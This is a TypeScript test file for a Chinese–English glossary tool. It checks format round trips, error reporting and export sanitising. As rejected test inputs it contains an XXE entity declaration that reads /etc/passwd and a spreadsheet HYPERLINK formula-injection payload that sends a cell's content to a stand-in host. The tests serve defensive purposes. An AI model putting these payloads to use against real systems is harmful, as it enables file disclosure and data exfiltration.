/** Every exchange format round-trips what it can hold and rejects malformed files with positions. */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import Papa from 'papaparse';
import type { Glossary, GlossaryEntry } from '../../src/core/glossary/entry';
import { FORMATS, formatForPath } from '../../src/core/glossary/formats';

const tricky: GlossaryEntry = {
  id: 'yazhu',
  zh: '压铸',
  traditional: '壓鑄',
  pinyin: 'yā zhù',
  en: ['die casting', 'HPDC, "high-pressure" die casting'],
  forbidden: ['pressure casting'],
  domain: 'die-casting',
  category: 'process',
  note: '注意：逗号, "引号"\tand a tab\nand a second line',
  aliases: [{ zh: '压力铸造', pinyin: 'yā lì zhù zào' }],
  ref: 'https://example.org/a?b=1&c=2',
};
const plain: GlossaryEntry = { id: 'kaimu', zh: '开模', pinyin: 'kāi mú', en: ['tooling'] };
const glossary: Glossary = { name: 'Round trip', entries: [tricky, plain] };

type Field = keyof GlossaryEntry;
const holds: Record<string, Field[]> = {
  json: ['id', 'zh', 'pinyin', 'en', 'forbidden', 'domain', 'category', 'note', 'aliases', 'ref'],
  csv: ['id', 'zh', 'traditional', 'pinyin', 'en', 'forbidden', 'domain', 'category', 'note', 'aliases', 'ref'],
  tbx: ['id', 'zh', 'traditional', 'pinyin', 'en', 'forbidden', 'domain', 'category', 'note', 'aliases', 'ref'],
  tsv: ['zh', 'en'],
  cedict: ['zh', 'traditional', 'pinyin', 'en'],
};

for (const format of FORMATS) {
  test(`${format.label} round-trips every field it can hold`, () => {
    const text = format.serialize(glossary);
    const { glossary: back, problems } = format.parse(text, `g${format.extensions[0]}`);
    assert.deepEqual(problems, []);
    assert.equal(back.entries.length, 2);
    for (const [k, original] of [tricky, plain].entries()) {
      const pick = (e: GlossaryEntry) =>
        Object.fromEntries(holds[format.id].map((f) => [f, e[f]]).filter(([, v]) => v !== undefined));
      const read = { ...back.entries[k] };
      // CC-CEDICT lines always carry a traditional form; one is derived where the entry had none.
      if (format.id === 'cedict' && !original.traditional) delete (read as { traditional?: string }).traditional;
      assert.deepEqual(pick(read), pick(original), `${format.id} entry ${k}:\n${text}`);
    }
    // A second trip changes nothing.
    assert.equal(format.serialize(format.parse(text, `g${format.extensions[0]}`).glossary), text);
  });
}

test('TSV keeps the note on one line (the format has no escaping)', () => {
  const tsv = formatForPath('x.tsv')!;
  const back = tsv.parse(tsv.serialize(glossary), 'x.tsv').glossary.entries[0];
  assert.equal(back.note, '注意：逗号, "引号" and a tab and a second line');
  assert.equal(
    tsv.serialize(glossary).split('\n')[0],
    '压铸\tdie casting\t注意：逗号, "引号" and a tab and a second line',
  );
});

test('CSV with a header in another order and Chinese column names', () => {
  const csv = formatForPath('x.csv')!;
  const { glossary: g, problems } = csv.parse(
    '英文,中文,备注\r\n"die casting, HPDC",压铸,"line one\nline two"\r\n',
    'x.csv',
  );
  assert.deepEqual(problems, []);
  assert.deepEqual(g.entries[0].en, ['die casting, HPDC']);
  assert.equal(g.entries[0].zh, '压铸');
  assert.equal(g.entries[0].note, 'line one\nline two');
});

test('OmegaT TSV lines with the same source become one entry, renderings in order', () => {
  const { glossary: g } = formatForPath('x.tsv')!.parse(
    '压铸\tdie casting\tcomment\n压铸\tHPDC\n开模\ttooling\n',
    'x.tsv',
  );
  assert.deepEqual(
    g.entries.map((e) => [e.zh, e.en, e.note]),
    [
      ['压铸', ['die casting', 'HPDC'], 'comment'],
      ['开模', ['tooling'], undefined],
    ],
  );
});

test('TBX v2 (martif/termEntry/langSet/tig) with regional language tags and a forbidden term', () => {
  const v2 = `<?xml version="1.0" encoding="UTF-8"?>
<martif type="TBX" xml:lang="en"><text><body>
  <termEntry id="c1">
    <descrip type="subjectField">die-casting</descrip>
    <langSet xml:lang="zh-CN"><tig><term>压铸</term></tig></langSet>
    <langSet xml:lang="zh-TW"><tig><term>壓鑄</term></tig></langSet>
    <langSet xml:lang="en-US">
      <ntig><termGrp><term>pressure casting</term></termGrp>
        <termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote></ntig>
      <tig><term>die casting</term><termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></tig>
    </langSet>
  </termEntry>
</body></text></martif>`;
  const { glossary: g, problems } = formatForPath('x.tbx')!.parse(v2, 'x.tbx');
  assert.deepEqual(problems, []);
  assert.deepEqual(g.entries[0], {
    id: 'c1',
    zh: '压铸',
    traditional: '壓鑄',
    en: ['die casting'],
    forbidden: ['pressure casting'],
    domain: 'die-casting',
  });
});

test('malformed files are rejected with file, line and column', () => {
  const tbx = formatForPath('x.tbx')!;
  const broken = tbx.parse('<?xml version="1.0"?>\n<tbx>\n  <text><body>\n</tbx>\n', 'x.tbx').problems;
  assert.equal(broken.length, 1);
  assert.match(broken[0].message, /^x\.tbx:\d+:\d+ XML: /);
  const entity = tbx.parse(
    '<?xml version="1.0"?>\n<!DOCTYPE tbx [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<tbx/>',
    'x.tbx',
  ).problems;
  assert.deepEqual(
    entity.map((p) => p.message),
    ['x.tbx:3:3 entity declarations are not allowed in a TBX glossary'],
  );
  const noZh = tbx.parse(
    '<tbx><text><body>\n<conceptEntry id="a"><langSec xml:lang="en"><termSec><term>x</term></termSec></langSec></conceptEntry></body></text></tbx>',
    'x.tbx',
  ).problems;
  assert.deepEqual(
    noZh.map((p) => p.message),
    ['x.tbx:2:1 concept has no Chinese term (zh, zh-Hans, zh-CN, zh-Hant, zh-TW or zh-HK)'],
  );
  const csv = formatForPath('x.csv')!.parse('zh,en\n压铸,die casting\n开模,"tooling\n', 'x.csv').problems;
  assert.ok(csv.length >= 1 && /^x\.csv:3:4 CSV: /.test(csv[0].message), csv.map((p) => p.message).join('\n'));
  const tsv = formatForPath('x.tsv')!.parse('压铸\tdie casting\n开模\n', 'x.tsv').problems;
  assert.deepEqual(
    tsv.map((p) => p.message),
    ['x.tsv:2:4 "开模" has no English rendering in the second column'],
  );
  const u8 = formatForPath('x.u8')!.parse(
    '# comment\n壓鑄 压铸 [ya1 zhu4] /die casting/\nnot a line\n',
    'x.u8',
  ).problems;
  assert.deepEqual(
    u8.map((p) => p.message),
    ['x.u8:3:1 not a CC-CEDICT line: expected "TRADITIONAL SIMPLIFIED [pin1 yin1] /english/…/"'],
  );
});

// ---- Issue 10, items 11–13: injection, exports and round trips --------------------------------

const fmt = (id: string) => FORMATS.find((f) => f.id === id)!;
const one = (e: Partial<GlossaryEntry> & Pick<GlossaryEntry, 'zh' | 'en'>): Glossary => ({
  name: 'T',
  entries: [{ id: 'x', ...e }],
});
const roundTrip = (id: string, g: Glossary) => {
  const text = fmt(id).serialize(g);
  const { glossary: back, problems } = fmt(id).parse(text, `g${fmt(id).extensions[0]}`);
  assert.deepEqual(
    problems.map((p) => p.message),
    [],
    text,
  );
  return { text, back: back.entries };
};

const formulas = [
  '=HYPERLINK("http://x.example/?"&A1,"click")',
  '+5 V',
  '-ing form',
  '@SUM(A1:A9)',
  "'s-Hertogenbosch",
  "'=quoted",
];

test('CSV neutralises formula cells (quote prefix, quoted cell) and reads every text back as it was', () => {
  const { text, back } = roundTrip('csv', one({ zh: '压铸', en: formulas, note: '=1+1', category: '-', domain: '@x' }));
  // Read with papaparse alone (no prefix removal): no cell a spreadsheet would run is left.
  const cells = Papa.parse<string[]>(text).data.flat();
  assert.deepEqual(
    cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
    [],
  );
  assert.ok(text.includes(`"'=1+1"`) && text.includes(`"'-"`) && text.includes(`"'@x"`), text);
  assert.ok(text.includes(`"'=HYPERLINK(""http://x.example/?""&A1,""click"") | +5 V | -ing form`), text);
  assert.deepEqual(back[0].en, formulas);
  assert.equal(back[0].note, '=1+1');
  assert.equal(back[0].category, '-');
  assert.equal(back[0].domain, '@x');
});

test('TSV neutralises formula cells and terms that would start a comment, and reads them back', () => {
  const entries = [
    { id: 'a', zh: '#标签', en: formulas, note: '+note' },
    { id: 'b', zh: '=压铸', en: ['x'] },
  ];
  const g: Glossary = { name: 'T', entries };
  const { text, back } = roundTrip('tsv', g);
  for (const line of text.trim().split('\n')) {
    assert.ok(!line.startsWith('#'), line);
    for (const cell of line.split('\t')) assert.ok(!/^[=+\-@]/.test(cell), `${cell} in ${text}`);
  }
  assert.deepEqual(
    back.map((e) => [e.zh, e.en, e.note]),
    entries.map((e) => [e.zh, e.en, e.note]),
  );
  // A line the user commented out stays a comment.
  const commented = fmt('tsv').parse('#压铸\tdie casting\n开模\ttooling\n', 'x.tsv').glossary;
  assert.deepEqual(
    commented.entries.map((e) => e.zh),
    ['开模'],
  );
});

test('CSV keeps renderings and aliases that contain "|", "[", "]" and backslashes', () => {
  const en = ['A | B', 'x\\|y', 'back\\slash\\', '|'];
  const aliases = [{ zh: '压[铸]', pinyin: 'yā [zhù]' }, { zh: '压|铸' }, { zh: '铸造 [x' }];
  const { back } = roundTrip('csv', one({ zh: '压铸', en, forbidden: ['a|b'], aliases }));
  assert.deepEqual(back[0].en, en);
  assert.deepEqual(back[0].forbidden, ['a|b']);
  assert.deepEqual(back[0].aliases, aliases);
  // Lists written by hand, unescaped, still split at "|"; other backslashes are read as themselves.
  const handWritten = 'zh,en,aliases\n压铸,die casting|HPDC | C:\\temp,压力铸造 [yā lì zhù zào]\n';
  const hand = fmt('csv').parse(handWritten, 'x.csv').glossary;
  assert.deepEqual(hand.entries[0].en, ['die casting', 'HPDC', 'C:\\temp']);
  assert.deepEqual(hand.entries[0].aliases, [{ zh: '压力铸造', pinyin: 'yā lì zhù zào' }]);
});

test('CC-CEDICT lines keep "/" in senses and terms that start with "#"', () => {
  const entry = { id: 'a', zh: '#标签', traditional: '#標籤', pinyin: 'biāo qiān', en: ['AC/DC', 'and/or'] };
  const g: Glossary = { name: 'T', entries: [entry] };
  const { text, back } = roundTrip('cedict', g);
  assert.equal(text, "'#標籤 #标签 [biao1 qian1] /AC\u2044DC/and\u2044or/\n");
  const fields = (e: GlossaryEntry) => [e.zh, e.traditional, e.pinyin, e.en];
  assert.deepEqual(back.map(fields), [fields(entry)]);
});

test('TBX keeps a note that reads "category: x", CR and CRLF in notes, and the category apart', () => {
  const notes = ['category: x', 'note: y', 'line one\r\nline two\rthree\nfour'];
  for (const note of notes) {
    const { back } = roundTrip('tbx', one({ zh: '压铸', en: ['die casting'], note }));
    assert.equal(back[0].note, note);
    assert.equal(back[0].category, undefined);
  }
  const { back } = roundTrip('tbx', one({ zh: '压铸', en: ['x'], category: 'process', note: 'category: other' }));
  assert.deepEqual([back[0].category, back[0].note], ['process', 'category: other']);
  // A reference with a line break is an attribute value: kept through XML's attribute normalisation.
  assert.equal(roundTrip('tbx', one({ zh: '压铸', en: ['x'], ref: 'a\tb\r\nc' })).back[0].ref, 'a\tb\r\nc');
});

/** XML 1.0 §2.2 Char: what a well-formed document may contain, as text or through references. */
const XML_CHAR = /^[\t\n\r\x20-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]*$/u;

/** Strict parsing with sax (isaacs/sax, already installed with @vscode/vsce), not fast-xml-parser. */
function strictXml(xml: string): { errors: string[]; texts: string[] } {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const sax = require('sax') as { parser(strict: boolean): SaxParser };
  const parser = sax.parser(true);
  const errors: string[] = [];
  const texts: string[] = [];
  parser.onerror = (e: Error) => {
    errors.push(e.message.split('\n')[0]);
    parser.resume();
  };
  parser.ontext = (t: string) => texts.push(t);
  parser.onattribute = (a: { value: string }) => texts.push(a.value);
  parser.write(xml).close();
  return { errors, texts };
}
interface SaxParser {
  onerror: (e: Error) => void;
  ontext: (t: string) => void;
  onattribute: (a: { value: string }) => void;
  resume(): void;
  write(s: string): { close(): void };
}

const controls = one({
  id: 'c\u0001',
  zh: '压\u0000铸',
  en: ['a\u0000b', 'c\u0007', '\u001b[31mred', 'x\uFFFEy', 'lone \uD800 high'],
  note: 'low \uDFFF, pair 😀, \uFFFF end',
  ref: 'https://example.org/\u0008',
});

test('TBX export drops what XML 1.0 cannot hold, says so in one line, and is well-formed to another parser', () => {
  const tbx = fmt('tbx');
  const xml = tbx.serialize(controls);
  const { errors, texts } = strictXml(xml);
  assert.deepEqual(errors, []);
  assert.ok(XML_CHAR.test(xml), 'raw text outside XML 1.0 Char');
  for (const t of texts) assert.ok(XML_CHAR.test(t), `decoded text outside XML 1.0 Char: ${JSON.stringify(t)}`);
  assert.deepEqual(tbx.fit(controls).lost, [
    'TBX-Basic cannot hold control characters, U+FFFE, U+FFFF or unpaired surrogates (XML 1.0): ' +
      'U+0000, U+0001, U+0007, U+0008, U+001B, U+D800, U+DFFF, U+FFFE, U+FFFF dropped in 1 entry',
    'TBX-Basic cannot hold ids: made again from the pinyin in 1 entry',
  ]);
  const back = tbx.parse(xml, 'g.tbx').glossary.entries[0];
  assert.deepEqual([back.id, back.zh, back.en], ['c', '压铸', ['ab', 'c', '[31mred', 'xy', 'lone  high']]);
  assert.deepEqual([back.note, back.ref], ['low , pair 😀,  end', 'https://example.org/']);
});

test('TBX export passes xmllint (libxml2), when it is installed', (t) => {
  const probe = spawnSync('xmllint', ['--version'], { encoding: 'utf8' });
  // CI provisions it (test/harness/provision.sh): there a missing tool is a failure, not a skip.
  if (probe.error && process.env.CI) assert.fail('xmllint is missing: run bash test/harness/provision.sh');
  if (probe.error) return t.skip('xmllint not installed (Debian package libxml2-utils); the sax and Char checks ran');
  for (const g of [controls, glossary]) {
    const r = spawnSync('xmllint', ['--noout', '-'], { input: fmt('tbx').serialize(g), encoding: 'utf8' });
    assert.equal(r.status, 0, r.stderr);
  }
});

test('each format says in one line per kind what it cannot hold', () => {
  assert.deepEqual(fmt('csv').fit(glossary).lost, []);
  assert.deepEqual(fmt('tbx').fit(glossary).lost, []);
  // The JSON format holds every field, the traditional form included.
  assert.deepEqual(fmt('json').fit(glossary).lost, []);
  assert.deepEqual(fmt('tsv').fit(glossary).lost, [
    'OmegaT TSV cannot hold tabs or line breaks: turned into spaces in 1 entry',
    'OmegaT TSV cannot hold traditional forms: dropped in 1 entry',
    'OmegaT TSV cannot hold pinyin: dropped in 2 entries',
    'OmegaT TSV cannot hold forbidden renderings: dropped in 1 entry',
    'OmegaT TSV cannot hold domains: dropped in 1 entry',
    'OmegaT TSV cannot hold categories: dropped in 1 entry',
    'OmegaT TSV cannot hold aliases: dropped in 1 entry',
    'OmegaT TSV cannot hold references: dropped in 1 entry',
    'OmegaT TSV cannot hold ids: made again from the Chinese term in 2 entries',
  ]);
  assert.deepEqual(fmt('cedict').fit(glossary).lost, [
    'CC-CEDICT lines cannot hold forbidden renderings: dropped in 1 entry',
    'CC-CEDICT lines cannot hold domains: dropped in 1 entry',
    'CC-CEDICT lines cannot hold categories: dropped in 1 entry',
    'CC-CEDICT lines cannot hold notes: dropped in 1 entry',
    'CC-CEDICT lines cannot hold aliases: dropped in 1 entry',
    'CC-CEDICT lines cannot hold references: dropped in 1 entry',
  ]);
});

test('convert prints what the output format could not hold on stderr', () => {
  const dir = mkdtempSync(join(tmpdir(), 'hanzi-gloss-formats-'));
  const input = join(dir, 'in.json');
  writeFileSync(input, fmt('json').serialize(glossary));
  const output = join(dir, 'out.tsv');
  const cli = join(__dirname, '..', '..', 'dist', 'cli.js');
  const r = spawnSync(process.execPath, [cli, 'convert', input, output], { encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
  const lines = r.stderr.trim().split('\n');
  assert.ok(lines.includes(`hanzi-gloss: ${output}: OmegaT TSV cannot hold aliases: dropped in 1 entry`), r.stderr);
  const read = fmt('json').parse(fmt('json').serialize(glossary), 'in.json').glossary;
  assert.equal(lines.length, fmt('tsv').fit(read).lost.length);
});
